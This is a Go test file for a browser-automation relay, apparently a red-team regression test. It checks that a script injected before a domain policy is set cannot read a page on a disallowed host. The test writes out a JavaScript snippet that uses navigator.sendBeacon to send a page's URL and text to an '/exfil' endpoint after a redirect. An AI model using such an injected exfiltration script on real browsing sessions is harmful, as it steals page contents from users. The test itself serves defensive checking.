package extcdp_test

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/livetab/livetab/livetabcdp"
)

// TestRedTeamNewDocumentScriptBeforeThePolicy: the relay wraps a new
// document script in the origin check only as it is added by a client
// then held to domains. A script added before Livetab.setPolicy (or
// under a wider policy, then narrowed) stays as it was sent: once held to
// 127.0.0.1, the client's script still runs in the page of 127.0.0.2 its
// navigation is redirected to, and sends it back. Now the narrowing is
// refused.
func TestRedTeamNewDocumentScriptBeforeThePolicy(t *testing.T) {
	for _, first := range [][]string{nil, {"127.0.0.1", "127.0.0.2"}} {
		t.Run(fmt.Sprint(first), func(t *testing.T) {
			srv, tok := endpoint(t)
			var mu sync.Mutex
			var got []string
			var bankURL string
			allowed := serveAt(t, "127.0.0.1", func(w http.ResponseWriter, r *http.Request) {
				switch r.URL.Path {
				case "/exfil":
					b, _ := io.ReadAll(r.Body)
					mu.Lock()
					got = append(got, string(b))
					mu.Unlock()
					return
				case "/go":
					http.Redirect(w, r, bankURL+"/account", http.StatusFound)
					return
				}
				w.Header().Set("Content-Type", "text/html")
				fmt.Fprint(w, `<title>allowed</title>allowed`)
			})
			bank := serveAt(t, "127.0.0.2", func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "text/html")
				fmt.Fprint(w, "<title>bank</title>zzq-balance-secret")
			})
			bankURL = bank.URL
			a := dialRawTo(t, srv, tok)
			if first != nil {
				a.must("", livetabcdp.CommandSetPolicy, map[string]any{"domains": first})
			}
			_, sid := a.open(allowed.URL + "/page")
			a.eval(sid, "1")
			src := fmt.Sprintf(`addEventListener('DOMContentLoaded', () => { if (location.hostname === '127.0.0.2') navigator.sendBeacon('%s/exfil', location.href + ' ' + document.body.innerText) })`, allowed.URL)
			a.must(sid, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": src})
			// Refused (the scripts would run outside), or held: either way
			// nothing of the outside page may come back.
			if _, err := a.call("", livetabcdp.CommandSetPolicy, map[string]any{"domains": []string{"127.0.0.1"}}); err != nil {
				if !strings.Contains(err.Error(), "set the policy before adding scripts") {
					t.Errorf("the refusal does not say what to do: %v", err)
				}
				if first != nil {
					return // still held to the wider domains, where 127.0.0.2 is allowed
				}
			}
			err := a.navigate(sid, allowed.URL+"/go")
			t.Logf("navigate to a redirect outside: %v", err)
			time.Sleep(2500 * time.Millisecond)
			mu.Lock()
			defer mu.Unlock()
			if len(got) > 0 {
				t.Errorf("a script added before the client held itself to 127.0.0.1 ran in a page outside and sent it: %q", got)
			}
		})
	}
}
